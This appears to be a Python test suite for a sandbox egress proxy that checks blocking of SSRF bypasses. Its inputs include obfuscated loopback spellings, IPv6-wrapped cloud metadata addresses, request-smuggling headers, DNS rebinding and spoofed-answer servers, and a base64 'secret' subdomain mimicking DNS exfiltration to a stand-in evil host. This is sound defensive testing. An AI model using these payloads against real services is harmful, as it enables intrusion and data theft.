"""Attacks 1-26: how a target is named.  No byte may reach a forbidden address."""
import base64
import json
import os
import pathlib
import socket
import subprocess
import threading

import lab
from lab import PYTHON, LabTest, Origin, Sandbox, endpoint, policy, rule, run

# Sends each message on a connection of its own and prints the status codes of the answer.
SENDER = '''
import base64, json, re, socket, sys
for raw in json.load(open(sys.argv[1])):
    s = socket.create_connection(("10.200.0.1", 3128)); s.settimeout(10)
    b = b""
    try:
        s.sendall(base64.b64decode(raw))
        s.shutdown(socket.SHUT_WR)
        while d := s.recv(65536): b += d
    except OSError as e: b += repr(e).encode()
    s.close()
    print(json.dumps({"codes": re.findall(r"HTTP/1.1 (\\d+)", b.decode("latin1")), "text": b.decode("latin1")[:2000]}), flush=True)
'''
# Addresses are allowed by name for any binary, so that only the address rules stand in the way.
WIDE = [80, 443]


class Dns:
    """Answers A for names of a table; counts every query; a list is used up answer by answer."""

    def __init__(self, table, delay=0):
        self.table, self.queries = table, []
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(('127.0.0.1', 53))
        self.socket.settimeout(0.05)
        self.stop = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        try:
            while not self.stop:
                try:
                    data, peer = self.socket.recvfrom(4096)
                except TimeoutError:
                    continue
                labels, at = [], 12
                while data[at]:
                    labels.append(data[at + 1:at + 1 + data[at]].decode('latin1'))
                    at += data[at] + 1
                name, kind = '.'.join(labels).lower(), data[at + 2]
                self.queries.append(name)
                answer = self.table.get(name, []) if kind == 1 else []
                if answer and isinstance(answer[0], list):
                    answer = answer.pop(0) if len(answer) > 1 else answer[0]
                question = data[12:at + 5]
                rows = b''.join(b'\xc0\x0c\0\1\0\1\0\0\0\0\0\4' + socket.inet_aton(a) for a in answer)
                code = 0 if name in self.table else 3
                self.socket.sendto(data[:2] + bytes([0x81, 0x80 | code]) + b'\0\1' + len(answer).to_bytes(2, 'big') +
                                   b'\0\0\0\0' + question + rows, peer)
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop = True
        self.thread.join()
        self.socket.close()


class Names(LabTest):
    def send(self, messages, rules):
        with open('/tmp/lab/messages', 'w') as f:
            json.dump([base64.b64encode(m).decode() for m in messages], f)
        got = run(policy(rules), ['/usr/bin/python3', '-c', SENDER, '/tmp/lab/messages'], seconds=120)
        self.assertEqual(got.code, 0, got)
        answers = [json.loads(l) for l in got.out.splitlines()]
        self.assertEqual(len(answers), len(messages), got)
        return answers

    @staticmethod
    def connect(target):
        target = target if isinstance(target, bytes) else target.encode()
        return b'CONNECT ' + target + b' HTTP/1.1\r\nHost: x\r\n\r\n'

    def refused(self, targets, rules, codes):
        """Each target, by CONNECT and by forward request, gets one of these codes and nothing else."""
        answers = self.send([self.connect(t) for t in targets], rules)
        for target, answer in zip(targets, answers):
            with self.subTest(target=target):
                self.assertEqual(len(answer['codes']), 1, answer)
                self.assertIn(int(answer['codes'][0]), codes, answer)
        return answers

    def test_01_02_numeric_spellings_of_ipv4(self):
        targets = [f'{h}:{p}' for h in ('2130706433', '0177.0.0.1', '0x7f.1', '127.1', '0x7f000001', '017700000001',
                                        '127.0.0.01', '127.0.0.256', '1', '0') for p in WIDE]
        any_name = {'w': rule(endpoint('2130706433', 443), endpoint('127.1', 443), binaries=('/**',))}
        with Origin('127.0.0.1', 80) as o, Origin('127.0.0.1', 443) as p:
            self.refused(targets, any_name, {400, 403})
            self.assertEqual(o.connections + p.connections, 0)

    def test_04_05_07_ipv4_inside_ipv6(self):
        hosts = ['::ffff:a9fe:a9fe', '::ffff:169.254.169.254', '0:0:0:0:0:ffff:a9fe:a9fe', '64:ff9b::a9fe:a9fe',
                 '64:ff9b:1::a9fe:a9fe', '::127.0.0.1', '::7f00:1', '2002:7f00:1::', '2001:0:7f00:1::', '::1', '::',
                 '2001:0:4136:e378:8000:63bf:80ff:fffe', 'fe80::5efe:7f00:1', '2001:db8:0:0:200:5efe:7f00:1']
        doc = {'w': rule(*[endpoint(h, 80) for h in hosts], binaries=('/**',))}
        with Origin(lab.METADATA) as o, Origin('127.0.0.1') as p:
            self.refused([f'[{h}]:80' for h in hosts], doc, {400, 403})
            self.assertEqual(o.connections + p.connections, 0)

    def test_08_zone_identifiers(self):
        self.refused(['[fe80::1%eth0]:80', '[fe80::1%25eth0]:80', 'fe80::1%eth0:80'], {}, {400})

    def test_10_special_ranges_are_blocked_for_names(self):
        table = {f'a{i}.wide.test': [a] for i, a in enumerate((
            '100.64.0.9', '198.18.0.5', '240.0.0.1', '224.0.0.1', '255.255.255.255', '0.1.2.3', '10.1.2.3', '172.16.0.1',
            '192.168.1.1', '192.0.0.8', '192.0.2.1', '203.0.113.9', '169.254.1.1', '127.9.9.9', '0.0.0.0'))}
        with Dns(table):
            answers = self.refused([f'{n}:80' for n in table], {'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))}, {403})
        for answer in answers:
            self.assertIn('ssrf_denied', answer['text'])

    def test_11_metadata_addresses_even_when_declared(self):
        hosts = ['168.63.129.16', '100.100.100.200', '169.254.169.254']
        doc = {'w': rule(*[endpoint(h, 80) for h in hosts], endpoint('fd00:ec2::254', 80), endpoint('meta.test', 80),
                         binaries=('/**',))}
        with Origin(lab.METADATA) as o:
            self.refused([f'{h}:80' for h in hosts] + ['[fd00:ec2::254]:80', 'meta.test:80'], doc, {403})
            self.assertEqual(o.connections, 0)

    def test_13_trailing_dot_and_case_name_the_same_host(self):
        with Origin() as o:
            doc = {'w': rule(endpoint('origin.test', 80), binaries=('/**',))}
            answers = self.send([self.connect('ORIGIN.test.:80'), self.connect('Origin.Test:80'),
                                 self.connect('origin.test..:80')], doc)
        self.assertEqual([a['codes'] for a in answers], [['200'], ['200'], ['400']])
        self.assertEqual(o.connections, 2)

    def test_14_16_17_19_20_malformed_authorities(self):
        long_name, long_label = 'a.' * 126 + 'bc', 'a' * 64 + '.test'
        targets = ['[origin.test]:80', 'origin.test@evil.test:80', 'user:pw@origin.test:80', 'origin.test:80:443',
                   'origin.test:0', 'origin.test:65616', 'origin.test:65536', 'origin.test:+80', 'origin.test:-1',
                   'origin.test:', 'origin.test', ':80', '[::1', '::1]:80', 'origin.test:8 0', 'origin.test/x:80',
                   'origin%2etest:80', 'origin.test%00.evil.test:80', 'örigin.test:80', '\u043erigin.test:80',
                   long_name + ':80', long_label + ':80', 'origin..test:80', '.origin.test:80', 'origin.test\\:80',
                   'origin.test#:80', 'http://origin.test:80', '*:80', 'a b:80']
        with Origin() as o:
            self.refused(targets, {'w': rule(endpoint('origin.test', 80), binaries=('/**',))}, {400})
            self.assertEqual(o.connections, 0)

    def test_17_nul_and_controls_in_the_head(self):
        raws = [b'CONNECT origin.test\0:80 HTTP/1.1\r\n\r\n', b'CONNECT origin.test:80\0 HTTP/1.1\r\n\r\n',
                b'CONNECT\torigin.test:80 HTTP/1.1\r\n\r\n', b'CONNECT origin.test:80 HTTP/1.1\n\r\n\r\n',
                b'connect origin.test:80 HTTP/1.1\r\n\r\n', b'CONNECT origin.test:80 HTTP/2.0\r\n\r\n',
                b'CONNECT origin.test:80  HTTP/1.1\r\n\r\n', b'CONNECT origin.test:80 HTTP/1.1\r\nA : b\r\n\r\n',
                b'CONNECT origin.test:80 HTTP/1.1\r\n folded: x\r\n\r\n', b'CONNECT origin.test:80 HTTP/1.1\r\nnocolon\r\n\r\n',
                b'GET http://origin.test/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab',
                b'GET http://origin.test/ HTTP/1.1\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
                b'GET http://origin.test/ HTTP/1.1\r\nTransfer-Encoding: xchunked\r\n\r\n',
                b'GET http://origin.test/ HTTP/1.1\r\nContent-Length: +5\r\n\r\n',
                b'GET http://origin.test/\x00 HTTP/1.1\r\n\r\n', b'GET / HTTP/1.1\r\nHost: origin.test\r\n\r\n',
                b'OPTIONS * HTTP/1.1\r\nHost: origin.test\r\n\r\n', b'GET https://origin.test/ HTTP/1.1\r\n\r\n',
                b'GET ftp://origin.test/ HTTP/1.1\r\n\r\n', b'GET http://origin.test/#f HTTP/1.1\r\n\r\n',
                b'\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03' + b'\xaa' * 64 + b'\r\n\r\n']
        with Origin() as o:
            doc = {'w': rule(endpoint('origin.test', 80), binaries=('/**',))}
            answers = self.send(raws, doc)
            for raw, answer in zip(raws, answers):
                with self.subTest(raw=raw):
                    self.assertEqual(answer['codes'], ['400'], answer)
            self.assertEqual(o.connections, 0)

    def test_head_that_never_ends_gets_nothing(self):
        with Origin() as o:
            answers = self.send([b'CONNECT origin.test:80 HTTP/1.1\n\n', b'CONNECT origin.test:80'],
                                {'w': rule(endpoint('origin.test', 80), binaries=('/**',))})
            self.assertEqual([a['codes'] for a in answers], [[], []])
            self.assertEqual(o.connections, 0)

    def test_head_of_8192_bytes_passes_and_one_more_is_431(self):
        def head(n):
            start = b'CONNECT origin.test:80 HTTP/1.1\r\nX: '
            return start + b'a' * (n - len(start) - 4) + b'\r\n\r\n'
        with Origin():
            answers = self.send([head(8192), head(8193)], {'w': rule(endpoint('origin.test', 80), binaries=('/**',))})
        self.assertEqual([a['codes'] for a in answers], [['200'], ['431']])

    def test_22_rebinding_is_looked_up_once(self):
        with Dns({'flip.wide.test': [[lab.ORIGIN], ['127.0.0.1']]}) as dns, Origin() as o, Origin('127.0.0.1') as bad:
            doc = {'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))}
            answers = self.send([self.connect('flip.wide.test:80'), self.connect('flip.wide.test:80')], doc)
        self.assertEqual([a['codes'] for a in answers], [['200'], ['403']])
        self.assertEqual((o.connections, bad.connections), (1, 0))
        self.assertLessEqual(len(dns.queries), 4)       # one A and one AAAA for each connection

    def test_23_mixed_answer_is_refused_whole(self):
        with Dns({'mixed.wide.test': [lab.ORIGIN, '10.77.0.10']}), Origin() as o, Origin(lab.INTERNAL) as bad:
            doc = {'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))}
            answers = self.send([self.connect('mixed.wide.test:80')], doc)
        self.assertEqual(answers[0]['codes'], ['403'])
        self.assertEqual((o.connections, bad.connections), (0, 0))

    def test_25_slow_or_missing_dns_is_bounded_and_closed(self):
        silent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.addCleanup(silent.close)
        silent.bind(('127.0.0.1', 53))
        answers = self.send([self.connect('slow.wide.test:80')], {'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))})
        self.assertIn(answers[0]["codes"], (["403"], ["502"]), answers)

    def test_25_answers_with_a_foreign_id_or_question_are_not_taken(self):
        """A liar on the path answers first; the true answer that comes later counts."""
        class Liar(Dns):
            def serve(self):
                while not self.stop:
                    try:
                        data, peer = self.socket.recvfrom(4096)
                    except TimeoutError:
                        continue
                    bad = socket.inet_aton(lab.EVIL)
                    row = b'\xc0\x0c\0\1\0\1\0\0\0\0\0\4'
                    head = b'\x81\x80\0\1\0\1\0\0\0\0'
                    for i in range(1, 200):
                        fake = ((int.from_bytes(data[:2], 'big') + i) & 0xffff).to_bytes(2, 'big')
                        self.socket.sendto(fake + head + data[12:] + row + bad, peer)
                    other = b'\4evil\4test\0' + data[-4:]
                    self.socket.sendto(data[:2] + head + other + row + bad, peer)
                    self.socket.sendto(data[:2] + b'\x81', peer)
                    if data[-3] == 1:
                        self.socket.sendto(data[:2] + head + data[12:] + row + socket.inet_aton(lab.ORIGIN), peer)
                    else:
                        self.socket.sendto(data[:2] + b'\x81\x80\0\1\0\0\0\0\0\0' + data[12:], peer)
        with Liar({}), Origin() as good, Origin(lab.EVIL) as evil:
            answers = self.send([self.connect('name.wide.test:80')], {'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))})
        self.assertEqual(evil.connections, 0)
        self.assertIn(answers[0]['codes'], (['200'], ['403']))
        self.assertEqual(good.connections, answers[0]['codes'] == ['200'])

    def test_25_new_name_servers_during_a_look_up(self):
        """A look-up that is under way ends as refused; the next one asks the new servers."""
        silent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.addCleanup(silent.close)
        silent.bind(('127.0.0.9', 53))
        resolv = os.path.realpath('/etc/resolv.conf')
        before = pathlib.Path(resolv).read_text()
        self.addCleanup(pathlib.Path(resolv).write_text, before)
        pathlib.Path(resolv).write_text('nameserver 127.0.0.9\n')
        code = ('import socket,sys\nfor line in sys.stdin:\n'
                ' s=socket.create_connection(("10.200.0.1",3128)); s.settimeout(15)\n'
                ' s.sendall(b"CONNECT slow.wide.test:80 HTTP/1.1\\r\\n\\r\\n"); print(s.recv(4096).decode().split()[1],flush=True)')
        doc = policy({'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))})
        with Dns({'slow.wide.test': [lab.ORIGIN]}), Origin(), \
                Sandbox(doc, ['/usr/bin/python3', '-c', code], stdin=subprocess.PIPE) as box:
            box.wait_err('enforcing')
            leaf = lab.wait_for(lambda: box.leaf('network'))
            box.process.stdin.write(b'ask\n')
            box.process.stdin.flush()
            lab.wait_for(lambda: silent.recv(512, socket.MSG_PEEK))
            pathlib.Path(resolv).write_text('nameserver 127.0.0.1\n')
            self.assertIn(box.wait_out(r'\d+'), ('403\n', '200\n'))
            box.seen = ''
            box.process.stdin.write(b'ask\n')
            box.process.stdin.flush()
            self.assertEqual(box.wait_out(r'\d+'), '200\n', box.err)
            self.assertEqual(box.leaf('network'), leaf)

    def test_26_denied_name_is_never_looked_up(self):
        with Dns({}) as dns:
            answers = self.send([self.connect('c2VjcmV0.evil-dns.test:443'),
                                 b'GET http://c2VjcmV0.evil-dns.test/ HTTP/1.1\r\n\r\n'],
                                {'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))})
        self.assertEqual([a['codes'] for a in answers], [['403'], ['403']])
        self.assertEqual(dns.queries, [])

    def test_the_next_address_is_dialled_when_one_refuses(self):
        table = {'two.wide.test': [lab.EVIL, lab.ORIGIN], 'none.wide.test': [lab.EVIL]}
        with Dns(table), Origin() as o:
            answers = self.send([self.connect('two.wide.test:80'), self.connect('none.wide.test:80')],
                                {'w': rule(endpoint('*.wide.test', 80), binaries=('/**',))})
        self.assertEqual([a['codes'] for a in answers], [['200'], ['502']])
        self.assertEqual(o.connections, 1)

    def test_declared_private_host_connects_and_wildcard_does_not(self):
        with Origin(lab.INTERNAL) as o, Dns({'db.corp.test': [lab.INTERNAL]}):
            exact = self.send([self.connect('internal.test:80')], {'w': rule(endpoint('internal.test', 80), binaries=('/**',))})
            wild = self.send([self.connect('db.corp.test:80')], {'w': rule(endpoint('*.corp.test', 80), binaries=('/**',))})
            listed = self.send([self.connect('db.corp.test:80')],
                               {'w': rule(endpoint('*.corp.test', 80, allowed_ips=['10.0.0.0/8']), binaries=('/**',))})
        self.assertEqual([exact[0]['codes'], wild[0]['codes'], listed[0]['codes']], [['200'], ['403'], ['200']])
        self.assertEqual(o.connections, 2)

    def test_control_plane_ports_of_declared_hosts(self):
        self.refused(['internal.test:6443', 'internal.test:2379'],
                     {'w': rule({'host': 'internal.test', 'ports': [6443, 2379]}, binaries=('/**',))}, {403})
